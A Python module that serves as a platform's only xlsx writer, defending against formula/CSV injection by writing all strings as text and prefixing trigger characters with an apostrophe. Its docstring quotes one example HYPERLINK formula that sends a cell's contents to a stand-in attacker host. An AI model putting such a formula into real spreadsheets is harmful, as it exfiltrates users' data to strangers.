"""The one writer of spreadsheets: every .xlsx the platform hands out is written here.

Text is stored as text, whatever it looks like: xlsxwriter's `write()` turns a string that
begins with `=` into a live formula and one that looks like an address into a link, so a
resident imported as `=HYPERLINK("http://evil.example/?leak="&A1,"点我")` would come out of a
ledger as a link that sends the row to a stranger. Here the workbook is opened with
`strings_to_formulas`, `strings_to_urls` and `strings_to_numbers` off, every string goes
through `write_string`, and a string that a spreadsheet program would still take for a
formula once the cell is edited or the sheet saved as CSV (it begins with `=`, `+`, `-`, `@`,
a tab or a carriage return: OWASP "CSV injection") gets a `'` in front (`neutralise`).
Numbers are written as numbers (except integers of 15 digits or more: a spreadsheet keeps
15 significant digits, so they are written as text), booleans as booleans, `None` as an
empty cell, anything else as its text.

A CSV file written by the platform, should one ever be, neutralises its cells the same way.
"""

import io
import math
from collections.abc import Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

import xlsxwriter
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

# A cell beginning with one of these is a formula (or a DDE command) to a spreadsheet program.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Integers from this size on lose digits as numbers in a spreadsheet: written as text.
LARGEST_EXACT_INTEGER = 10**15
SHEET_NAME_LENGTH = 31
_FORBIDDEN_IN_SHEET_NAMES = str.maketrans(dict.fromkeys("[]:*?/\\", " "))
HEADER_STYLE = {"bold": True, "bg_color": "#F2DEDE", "border": 1, "text_wrap": True, "valign": "top"}


def neutralise(text: str) -> str:
    """`text`, with a `'` in front if a spreadsheet program would take it for a formula."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def sheet_name(title: str) -> str:
    """A title as a worksheet's name: without the characters Excel forbids there (`[]:*?/\\`),
    not beginning or ending with an apostrophe, at most 31 characters, never empty."""
    name = title.translate(_FORBIDDEN_IN_SHEET_NAMES).strip("'")[:SHEET_NAME_LENGTH].strip("'")
    return name or "Sheet"


def _exact_number(value: Any) -> bool:
    """A finite number that a spreadsheet keeps as it is."""
    if isinstance(value, int):
        return abs(value) < LARGEST_EXACT_INTEGER
    if isinstance(value, Decimal):
        return value.is_finite()
    return isinstance(value, float) and math.isfinite(value)


class Sheet:
    """A worksheet of a `Workbook`; rows and columns count from 0."""

    def __init__(self, worksheet: Worksheet) -> None:
        self._sheet = worksheet

    def cell(self, row: int, col: int, value: Any, style: Format | None = None) -> None:
        sheet = self._sheet
        if value is None or value == "":
            sheet.write_blank(row, col, None, style)
        elif isinstance(value, bool):
            sheet.write_boolean(row, col, value, style)
        elif _exact_number(value):
            sheet.write_number(row, col, float(value) if isinstance(value, Decimal) else value, style)
        else:
            sheet.write_string(row, col, neutralise(str(value)), style)

    def row(self, row: int, values: Sequence[Any], style: Format | None = None) -> None:
        for col, value in enumerate(values):
            self.cell(row, col, value, style)

    def widths(self, widths: Sequence[int]) -> None:
        for col, width in enumerate(widths):
            self._sheet.set_column(col, col, width)

    def table(self, header: Sequence[Any], rows: Sequence[Sequence[Any]], widths: Sequence[int] = (), *, style: Format):
        """A header row (in `style`, frozen), the rows under it, a filter over all of it."""
        self.widths(widths)
        self.row(0, header, style)
        for r, values in enumerate(rows, start=1):
            self.row(r, values)
        self.freeze_header()
        if rows:
            self._sheet.autofilter(0, 0, len(rows), len(header) - 1)

    def freeze_header(self) -> None:
        self._sheet.freeze_panes(1, 0)


class Workbook:
    """An .xlsx file: in memory (`close()` returns its bytes) or at `path`. `constant_memory`
    keeps one row in memory at a time (rows must then be written in order)."""

    def __init__(self, path: str | Path | None = None, *, constant_memory: bool = False) -> None:
        options: dict[str, Any] = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
        if constant_memory:
            options["constant_memory"] = True
        self._buffer: io.BytesIO | None = None
        if path is None:
            self._buffer = io.BytesIO()
            options["in_memory"] = True
            self._book = xlsxwriter.Workbook(self._buffer, options)
        else:
            self._book = xlsxwriter.Workbook(str(path), options)
        self.header = self._book.add_format(HEADER_STYLE)
        self.bold = self._book.add_format({"bold": True})

    def sheet(self, title: str) -> Sheet:
        return Sheet(self._book.add_worksheet(sheet_name(title)))

    def close(self) -> bytes:
        """Write the file; its bytes when it was made in memory (else b"")."""
        self._book.close()
        return self._buffer.getvalue() if self._buffer is not None else b""
